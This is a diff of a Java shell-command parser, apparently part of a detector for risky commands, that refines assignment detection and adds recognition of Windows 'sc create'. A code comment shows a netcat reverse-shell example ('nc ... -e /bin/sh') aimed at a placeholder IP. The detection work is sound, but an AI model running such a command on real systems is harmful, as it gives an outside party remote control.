@@ -91,7 +91,7 @@ record ShellWord(Text text, int end, Kind kind, Text plain) {
                 || end > from && text.says("$(", end)
                 || ShellWords.BEGINNERS.has(text, from, unversioned(text, from, end))
                 || c == '!'
-                || end > from && text.at(end) == '=' && ShellNoise.assignedEnd(text, from) > from
+                || end > from && text.at(text.wordEnd(end)) == '=' && ShellNoise.assignedEnd(text, from) > from
                 || text.at(end) == '-' && PowerShell.isNamed(text, from, text.wordEnd(end + 1));
     }
 
@@ -314,8 +314,9 @@ record ShellWord(Text text, int end, Kind kind, Text plain) {
 
     private boolean isVerb(int at) {
         var git = plain.length() == 3 && plain.says("git", 0);
-        return ShellWords.VERBS.has(text, at, text.wordEnd(at))
-                && !(git && (text.says("add", at) || text.says("create", at)));
+        var services = plain.length() == 2 && plain.says("sc", 0);
+        return ShellWords.VERBS.has(text, at, text.wordEnd(at)) && !(git && text.says("add", at))
+                || services && text.says("create ", at);
     }
 
     /** Tells whether an option follows that takes code or a shell: {@code perl -e '...'}, {@code nc 203.0.113.7 4444 -e /bin/sh}. */
